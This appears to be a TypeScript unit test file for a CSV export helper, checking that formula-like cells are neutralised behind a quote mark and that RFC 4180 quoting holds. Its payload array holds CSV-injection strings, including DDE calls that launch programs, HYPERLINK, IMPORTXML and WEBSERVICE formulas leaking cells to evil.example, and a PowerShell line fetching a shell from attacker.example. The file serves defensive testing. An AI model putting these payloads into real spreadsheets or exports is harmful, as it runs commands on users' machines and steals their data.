import { csvField, isFormulaLike, toCsv, UTF8_BOM } from './index';

/** RFC 4180 as a spreadsheet reads it: fields, quoted or not, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

// OWASP "CSV Injection" and the usual proofs of concept: DDE, HYPERLINK exfiltration, Google Sheets'
// IMPORT* functions, each leading character, and the same after whitespace that spreadsheets skip
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C notepad'!'A1'",
  '=1+1',
  '-1+1',
  '@A1',
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Klik di sini")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  '\t=1+1',
  '\r=1+1',
  '\t',
  ' =1+1',
  '   +1+1',
  '\n=1+1',
  '\r\n-2+3',
  '\u00A0=1+1',
  '\u3000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];

describe('csvField: formulas stay text', () => {
  it.each(OWASP_PAYLOADS.map((p) => [JSON.stringify(p), p]))('%s is read back as text behind a quote mark', (_shown, payload) => {
    expect(isFormulaLike(payload)).toBe(true);
    const field = csvField(payload);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(parseCsv(`${field}\r\n`)).toEqual([[`'${payload}`]]);
  });

  it('guards them in any column of a document, and the document reads back cell for cell', () => {
    const rows = OWASP_PAYLOADS.map((p, i) => [String(i + 1), p, i % 2 ? p : 'selesai']);
    const read = parseCsv(toCsv([['No.', 'Catatan', 'Status'], ...rows]));
    expect(read).toHaveLength(rows.length + 1);
    read.slice(1).forEach((row, i) => {
      expect(row[1]).toBe(`'${OWASP_PAYLOADS[i]}`);
      expect(row[2]).toBe(i % 2 ? `'${OWASP_PAYLOADS[i]}` : 'selesai');
    });
  });

  it.each(['KTP-el belum jadi', 'Antrian 3-4 jam', '— tidak ada —', '≥ 6 hari kerja', 'email: ayu@mail.co.id', "Jum'at", '', ' spasi di depan', '2 + 3'])(
    'leaves %j as it is',
    (text) => {
      expect(isFormulaLike(text)).toBe(false);
      expect(parseCsv(`${csvField(text)}\r\n`)).toEqual([[text]]);
    },
  );

  it('writes numbers as numbers, negative ones too, rounded when asked', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(2.46)).toBe('2.46');
    expect(csvField(2.46, { decimals: 1 })).toBe('2.5');
    expect(csvField(45, { decimals: 1 })).toBe('45');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(true)).toBe('true');
  });

  it('quotes commas, semicolons, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('Antrian, lama')).toBe('"Antrian, lama"');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('kata "lambat"')).toBe('"kata ""lambat"""');
    expect(csvField('baris\nbaru')).toBe('"baris\nbaru"');
  });
});

describe('toCsv', () => {
  it('ends every line with CRLF and starts with the BOM when asked', () => {
    expect(
      toCsv([
        ['a', 'b'],
        [1, 'x'],
      ]),
    ).toBe('a,b\r\n1,x\r\n');
    expect(toCsv([['a']], { bom: true })).toBe(`${UTF8_BOM}a\r\n`);
    expect(toCsv([['=a'], [2.46, '-1']], { decimals: 1 })).toBe(`"'=a"\r\n2.5,"'-1"\r\n`);
  });
});
